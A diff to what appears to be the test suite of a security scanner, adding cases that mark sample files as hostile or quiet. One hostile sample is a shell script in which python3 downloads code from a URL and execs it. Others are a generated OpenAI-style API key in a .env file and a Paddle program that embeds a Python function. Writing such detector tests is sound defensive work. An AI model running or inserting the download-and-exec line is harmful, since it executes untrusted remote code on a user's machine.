@@ -238,4 +238,15 @@ printf 'import subprocess, sys\nsubprocess.check_call([sys.executable, "-m", "pi
 hostile SOURCE_DANGEROUS "packages of an index that nobody proves"
 printf 'pip install --index-url http://localhost:3141/simple x\n' | file a.sh
 quiet "an index of this machine"
+# --- Python on a shell's line, keys of services, operators of Paddle
+printf '#!/bin/sh\npython3 -c "exec(__import__(\047urllib.request\047).request.urlopen(\047http://x\047).read())"\n' | file a.sh
+hostile SOURCE_DANGEROUS "Python that a script downloads"
+printf '#!/bin/sh\npython3 -c "import torch; print(torch.__version__)"\n' | file a.sh
+quiet "Python that says a version"
+printf 'OPENAI_API_KEY=sk-%s%s\n' "$(cut_at 30)" "$digits" | file .env
+hostile SECRET_TOKEN "a key in a variable"
+printf 'OPENAI_API_KEY=sk-your-key-here-0123456789\nHF_TOKEN=${HF_TOKEN}\n' | file .env
+quiet "variables to be filled in"
+printf '{"base_code": {"magic": "pir"}, "program": {"regions": [{"blocks": [{"ops": [{"#": "1.py_func"}]}]}]}}' | file a.json
+hostile OBJECT_CODE "Python in a program of Paddle"
 done_testing
